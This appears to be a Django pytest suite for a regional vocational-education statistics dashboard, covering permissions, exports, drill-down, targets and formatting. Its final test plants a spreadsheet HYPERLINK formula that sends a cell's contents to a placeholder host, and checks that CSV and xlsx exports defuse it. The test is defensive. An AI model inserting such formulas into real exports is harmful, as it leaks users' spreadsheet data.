"""The insight pages on a populated region (computed on the test database: INSIGHT_ENGINE = "db"):
who sees what, exports, drill-down to the records, targets and key industries from the pages."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from gongjiang.core import clock
from gongjiang.core.sheets import FORMULA_TRIGGERS
from gongjiang.directory.models import Organisation
from gongjiang.insight.catalogue import catalogue
from gongjiang.insight.models import KeyIndustry, Target
from gongjiang.registry.models import SchoolProfile

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("populated")]


def test_who_may_see_the_dashboard(client_for: Callable[[str], Client], world: dict[str, Organisation]) -> None:
    assert client_for("anonymous").get("/insight/").status_code == 302
    assert client_for("student").get("/insight/").status_code == 403
    assert client_for("enterprise").get("/insight/").status_code == 403
    bureau = client_for("bureau").get("/insight/?year=2025")
    assert bureau.status_code == 200
    body = bureau.content.decode()
    assert "就业率" in body and "双证书获取率" in body and "内蒙古自治区" in body
    # A closed year says nothing of being open; this year says it is only partly counted.
    assert 'data-testid="year-open"' not in body
    this_year = clock.today().year
    assert 'data-testid="year-open"' in client_for("bureau").get(f"/insight/?year={this_year}").content.decode()
    # The province's cities with schools, to drill into.
    assert ("150200", "包头市") in bureau.context["regions"] and 'data-testid="region-chips"' in body
    school = client_for("school")
    own = school.get("/insight/?year=2025")
    assert own.status_code == 200 and world["school"].name in own.content.decode()
    # A school cannot open another school's figures, nor the province's; a city bureau not another city's.
    assert school.get(f"/insight/?scope=school:{world['school2'].code}").status_code == 404
    assert school.get("/insight/?scope=region:150000").status_code == 404
    assert client_for("bureau_other").get("/insight/?scope=region:150200").status_code == 404
    assert client_for("bureau_other").get("/insight/?scope=region:150400").status_code == 200
    assert client_for("bureau").get("/insight/?scope=region:159999").status_code == 404


def test_the_dashboard_exports_every_indicator(client_for: Callable[[str], Client]) -> None:
    client = client_for("bureau")
    xlsx = client.get("/insight/?year=2025&format=xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    # A title row (scope, year, time of export) above the header; the csv starts with its header.
    assert "内蒙古自治区 · 指标一览 · 2025 年（导出于" in rows[0][0]
    assert rows[1][:3] == ("代码", "指标", "单位") and rows[1][-2] == "2025"
    assert {r[0] for r in rows[2:]} == set(catalogue())
    employment = next(r for r in rows if r[0] == "employment_rate")
    assert employment[-2] is not None and 50 < employment[-2] <= 100
    csv = client.get("/insight/?year=2025&format=csv")
    assert csv.content.startswith("\ufeff代码".encode())
    assert csv.content.decode("utf-8-sig").count("\n") == len(catalogue()) + 1


def test_drill_down_from_region_to_school_to_major_to_records(
    client_for: Callable[[str], Client], world: dict[str, Organisation]
) -> None:
    client = client_for("bureau")
    province = client.get("/insight/indicators/employment_rate/?year=2025")
    school = world["school"]
    city = school.region_code[:4] + "00"
    # A province is compared across its cities; their counts add up to the province's.
    assert province.context["by"] == "city" and f"scope=region:{city}" in province.content.decode()
    cities = province.context["rows"]
    whole = province.context["trend"][-1][0]
    assert sum(r["value"].numerator for r in cities) == whole.numerator
    assert sum(r["value"].denominator for r in cities) == whole.denominator
    assert all(r["name"] != r["key"] for r in cities)  # named, not coded
    # … or across all its schools, when asked.
    by_school = client.get("/insight/indicators/employment_rate/?year=2025&by=school").content.decode()
    assert f"scope=school:{school.code}" in by_school and 'data-testid="compare-by"' in by_school
    # A city is compared across its schools; each school row leads down.
    region = client.get(f"/insight/indicators/employment_rate/?scope=region:{city}&year=2025").content.decode()
    assert f"scope=school:{school.code}" in region and 'data-testid="compare-by"' not in region
    page = client.get(f"/insight/indicators/employment_rate/?scope=school:{school.code}&year=2025")
    body = page.content.decode()
    assert page.status_code == 200 and "各专业比较" in body and "/records/?" in body
    records = client.get(f"/insight/indicators/employment_rate/records/?scope=school:{school.code}&year=2025")
    text = records.content.decode()
    assert records.status_code == 200 and "/registry/registrations/" in text and "计入分母" in text
    # Codes are written out: the school's name and 全日制, not its code and full_time.
    assert school.name in text and "全日制" in text and "full_time" not in text
    # The rows behind the figure are exactly its denominator.
    figure = page.context["trend"][-1][0]
    assert len(re.findall(r"/registry/registrations/\d+/", text)) == int(figure.denominator)
    # The same records as a file: one row each, names written out, the numerator marked.
    exported = client.get(
        f"/insight/indicators/employment_rate/records/?scope=school:{school.code}&year=2025&format=csv"
    )
    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert lines[0][0] == "记录类别" and lines[0][-2:] == ["计入分子", "计入分母"]
    assert len(lines) - 1 == int(figure.denominator) and sum(line[-2] == "是" for line in lines[1:]) == int(
        figure.numerator
    )
    assert any(school.name in line for line in lines[1:]) and not any("full_time" in line for line in lines[1:])
    breakdown = client.get(f"/insight/indicators/employment_rate/?scope=school:{school.code}&year=2025&format=csv")
    assert breakdown.status_code == 200 and "代码" in breakdown.content.decode("utf-8-sig")
    # Records are per school: a region has too many to list.
    assert client.get("/insight/indicators/employment_rate/records/?year=2025").status_code == 404
    assert client.get("/insight/indicators/nope/").status_code == 404


def test_a_bureau_adds_a_target_from_the_page_and_sees_its_status(client_for: Callable[[str], Client]) -> None:
    client = client_for("bureau")
    form: dict[str, Any] = {
        "indicator_code": "employment_rate",
        "scope_kind": "region",
        "scope_code": "150000",
        "level": "provincial",
        "from_year": "2021",
        "to_year": "2025",
        "comparator": "ge",
        "value": "97",
        "tolerance": "3",
        "source": "内蒙古：就业率不低于 97%",
    }
    # The form offers the bureau's own level first: the province's bureau sets provincial targets.
    assert '<option value="provincial" selected>' in client.get("/insight/targets/?year=2025").content.decode()
    bad = client.post("/insight/targets/?year=2025", {**form, "value": "很高"})
    assert bad.status_code == 200 and "应为数字" in bad.content.decode() and not Target.objects.exists()
    # The field is named as the form names it, not by its code.
    assert "目标值：" in bad.content.decode() and "value：" not in bad.content.decode()
    done = client.post("/insight/targets/?year=2025", form)
    assert done.status_code == 302
    page = client.get("/insight/targets/?year=2025").content.decode()
    assert "内蒙古：就业率不低于 97%" in page
    assert any(label in page for label in ("达成", "接近", "未达成"))
    assert client_for("school").get("/insight/targets/?year=2025").status_code == 200
    assert "data-target" in client_for("school").get("/insight/targets/?year=2025").content.decode()
    dashboard = client.get("/insight/?year=2025").content.decode()
    assert "省级 不低于 97%" in dashboard  # the target with its unit
    # The targets table is exported with its figure and status, the value as written (97, not 97.0000).
    exported = client.get("/insight/targets/?year=2025&format=csv").content.decode("utf-8-sig").splitlines()
    assert exported[0].startswith("指标代码,指标,范围,层级,比较方式,目标值")
    assert len(exported) == 2 and ",97," in exported[1] and "内蒙古：就业率不低于 97%" in exported[1]
    # So is an indicator's trend, year by year.
    trend = client.get("/insight/indicators/employment_rate/?year=2025&table=trend&format=csv")
    lines = trend.content.decode("utf-8-sig").splitlines()
    assert lines[0] == "年度,值,分子,分母,状态" and len(lines) == 1 + 5 and lines[-1].startswith("2025,")


def test_key_industries_and_the_alignment_page(client_for: Callable[[str], Client]) -> None:
    client = client_for("bureau")
    assert KeyIndustry.objects.filter(region_code="150000").count() == 9  # the demo's list
    wrong = client.post("/insight/alignment/", {"industry_code": "ZZ"}, follow=True)
    assert "国民经济行业分类中没有代码 ZZ" in wrong.content.decode()
    client.post("/insight/alignment/", {"industry_code": "H", "note": "文旅"})
    assert KeyIndustry.objects.filter(region_code="150000", industry_code="H").exists()
    page = client.get("/insight/alignment/?year=2025")
    body = page.content.decode()
    assert page.status_code == 200 and "专业设置与产业匹配度" in body and "sankey-data" in body
    assert page.context["sankey"]["links"], "graduates flow from majors to schools"
    # The list of key industries names its region; a chart cut to the largest majors says so.
    assert "<td>内蒙古自治区</td>" in body and "<td>150000</td>" not in body
    cut = page.context["majors_supplied"] > page.context["sankey_majors"]
    assert ('data-testid="sankey-cut"' in body) == cut
    # The table is exported with its title; its demand counted once is said beside the rows' sum.
    assert page.context["demand_once"] <= page.context["demand_summed"] and 'data-testid="demand-once"' in body
    exported = client.get("/insight/alignment/?year=2025&format=xlsx")
    rows = list(load_workbook(io.BytesIO(exported.content)).active.iter_rows(values_only=True))  # type: ignore[union-attr]
    assert "毕业生供给与岗位需求 · 2025 年" in rows[0][0] and rows[1][:2] == ("专业代码", "专业")
    assert len(rows) == 2 + len(page.context["rows"])
    keys = client.get("/insight/alignment/?year=2025&table=keys&format=csv").content.decode("utf-8-sig").splitlines()
    assert keys[0] == "地区,行业代码,行业,说明,有专业服务" and len(keys) == 1 + len(page.context["keys"])
    assert any(line.startswith("内蒙古自治区,H,") for line in keys[1:])
    listed = client.get("/insight/alignment/?year=2025&format=csv").content.decode("utf-8-sig").splitlines()
    assert listed[0].startswith("专业代码,专业,对应职业") and len(listed) == 1 + len(page.context["rows"])
    school = client_for("school").get("/insight/alignment/?year=2025")
    assert school.status_code == 200 and not school.context["can_edit_keys"]
    assert client_for("school").post("/insight/alignment/", {"industry_code": "C"}).status_code == 403
    assert not KeyIndustry.objects.filter(industry_code="C").exists()


def test_major_warnings_page(client_for: Callable[[str], Client], world: dict[str, Organisation]) -> None:
    client = client_for("bureau")
    page = client.get("/insight/warnings/?year=2026")
    assert page.status_code == 200
    rows = page.context["rows"]
    assert rows, "the region's majors are judged"
    levels = {w.level for w, _name, _label in rows}
    assert levels <= {"red", "yellow", "green", "insufficient"}
    for warning, _name, _label in rows:
        if warning.level in {"red", "yellow"}:
            assert warning.reasons
    csv = client.get("/insight/warnings/?year=2026&format=csv").content.decode("utf-8-sig")
    assert csv.splitlines()[0].startswith("专业代码,专业,预警")
    assert len(csv.splitlines()) == len(rows) + 1
    assert client_for("school").get(f"/insight/warnings/?scope=school:{world['school2'].code}").status_code == 404


def test_data_quality_page_checks_a_school_live(
    client_for: Callable[[str], Client], world: dict[str, Organisation]
) -> None:
    from gongjiang.directory.models import User
    from gongjiang.directory.selectors import actor_for_user
    from gongjiang.registry import services as registry

    school = world["school"]
    client = client_for("school")
    before = client.get("/insight/quality/?year=2026")
    assert before.status_code == 200 and before.context["live"]
    # Empty the school's facilities, and the rule says so at once; fill them in, and it is gone.
    actor = actor_for_user(User.objects.get(username="school"))
    registry.school_profile_update(
        actor=actor,
        school=school,
        expected_version=SchoolProfile.objects.filter(school=school).values_list("version", flat=True).first(),
        books=None,
    )
    page = client.get("/insight/quality/?year=2026")
    broken = {v.rule.code for v, _name in page.context["rows"]}
    assert "profile_complete" in broken
    # Both figures are named in words: what was found, and what it should be.
    assert "已填的办学条件项：" in page.content.decode() and "应等于应填的办学条件项" in page.content.decode()
    registry.school_profile_update(
        actor=actor, school=school, expected_version=SchoolProfile.objects.filter(school=school).values_list("version", flat=True).first(),
        land_area_m2=70000, floor_area_m2=52000, training_floor_area_m2=20000,
        equipment_value_wan=3100, books=120000,
    )  # fmt: skip
    fixed = {v.rule.code for v, _name in client.get("/insight/quality/?year=2026").context["rows"]}
    assert "profile_complete" not in fixed
    region = client_for("bureau").get("/insight/quality/?year=2026&format=csv").content.decode("utf-8-sig")
    assert region.splitlines()[0].startswith("学校代码,学校,年度,规则")
    assert client.get(f"/insight/quality/?scope=school:{world['school2'].code}").status_code == 404


def test_the_api_gives_figures_with_what_they_are_made_of(client_for: Callable[[str], Client]) -> None:
    client = client_for("bureau")
    found = client.get("/api/v1/insight/indicators?year=2025&code=employment_rate&code=graduates").json()
    assert [v["code"] for v in found] == ["employment_rate", "graduates"]
    rate = found[0]
    assert rate["scope"] == "region:150000" and rate["year"] == 2025
    assert rate["value"] == round(rate["numerator"] / rate["denominator"] * 100, 6)
    by_tier = client.get("/api/v1/insight/indicators?year=2025&code=graduates&by=tier").json()
    assert {v["group"]["tier"] for v in by_tier} >= {"technician_college"}
    by_city = client.get("/api/v1/insight/indicators?year=2025&code=graduates&by=city").json()
    assert by_city and all(v["group"]["city"].endswith("00") for v in by_city)
    assert sum(v["value"] for v in by_city) == next(v for v in found if v["code"] == "graduates")["value"]
    for bad, field in (("year=99999", "year"), ("scope=city:1", "scope"), ("code=nope", "code"), ("by=colour", "by")):
        answer = client.get(f"/api/v1/insight/indicators?{bad}")
        assert answer.status_code == 422 and field in answer.json()["detail"], bad
    assert client_for("school").get("/api/v1/insight/indicators?scope=region:150000").status_code == 404
    assert len(client.get("/api/v1/insight/catalogue").json()) == len(catalogue())
    assert client.get("/api/v1/insight/targets?year=2025").json() == []


def test_the_arrow_says_which_way_the_figure_moved_and_its_colour_whether_that_is_better() -> None:
    from gongjiang.insight import presenters
    from gongjiang.insight.compute import IndicatorValue

    def value(v: float) -> IndicatorValue:
        return IndicatorValue("x", 2025, "all", v, v, 1.0, "%", "ok")

    dropout = catalogue()["dropout_rate"]  # lower is better
    assert dropout.direction == "lower"
    moved = (presenters.rise(dropout, value(0.4), value(0.5)), presenters.change(dropout, value(0.4), value(0.5)))
    assert moved == ("down", "better")
    employment = catalogue()["employment_rate"]
    moved = (presenters.rise(employment, value(90), value(95)), presenters.change(employment, value(90), value(95)))
    assert moved == ("down", "worse")
    assert (
        presenters.rise(employment, value(90), None) == "" and presenters.rise(employment, value(90), value(90)) == ""
    )
    # 91.94 % and 91.86 % are both written 91.9 %: no arrow between them, nor a colour.
    same = (
        presenters.rise(employment, value(91.94), value(91.86)),
        presenters.change(employment, value(91.94), value(91.86)),
    )
    assert same == ("", "")


def test_a_bureaus_own_targets_are_of_its_level() -> None:
    from gongjiang.insight.selectors import bureau_level

    assert (bureau_level("150000"), bureau_level("150200"), bureau_level("150203")) == (
        "provincial",
        "city",
        "district",
    )


def test_money_is_written_in_yuan() -> None:
    from gongjiang.insight.catalogue import format_value as _format

    assert _format(4861.4, "yuan") == "4,861 元"


def test_a_warning_reason_reads_true_at_the_shown_precision() -> None:
    from gongjiang.insight.early_warning import MajorWarning, Thresholds, _judge

    warning = MajorWarning("0102", "green", 50, 95.0, 80.0, 3923.63, 0.797, 10, 10, 0.0, 0.2)
    _judge(warning, Thresholds.load())
    assert warning.level == "red"
    assert warning.reasons == ["平均月收入为全范围平均的 79.7%，低于 80%"]


def test_a_share_that_is_not_whole_is_never_written_100_or_0() -> None:
    from gongjiang.insight.catalogue import format_value as _format

    assert _format(100 * 5145 / 5147, "%") == "99.96%"
    assert _format(99.9999, "%") == "99.99%" and _format(0.0001, "%") == "0.01%"
    assert _format(100.0, "%") == "100.0%" and _format(0.0, "%") == "0.0%" and _format(85.04, "%") == "85.0%"


def test_a_figure_that_is_not_finite_reads_as_a_dash() -> None:
    from gongjiang.insight.templatetags.insight import plain, whole

    assert plain(float("inf")) == whole(float("nan")) == "—" and plain(2.5) == "2.50" and whole(1234.4) == "1,234"


def test_a_target_whose_source_looks_like_a_formula_is_exported_as_text(client_for: Callable[[str], Client]) -> None:
    client = client_for("bureau")
    source = '=HYPERLINK("http://x.example/?"&A2,"点我")'
    form = {
        "indicator_code": "employment_rate", "scope_kind": "region", "scope_code": "150000",
        "level": "provincial", "from_year": "2021", "to_year": "2025", "comparator": "ge", "value": "97",
        "tolerance": "3", "source": source,
    }  # fmt: skip
    assert client.post("/insight/targets/?year=2025", form).status_code == 302
    exported = client.get("/insight/targets/?year=2025&format=csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + source in cells
    # Numbers may start with a minus sign (-3 is a number); no text may start a formula.
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not _number(cell)]
    workbook = load_workbook(io.BytesIO(client.get("/insight/targets/?year=2025&format=xlsx").content))
    cells_xlsx = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells_xlsx if cell.data_type == "f"]
    assert "'" + source in {cell.value for cell in cells_xlsx}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
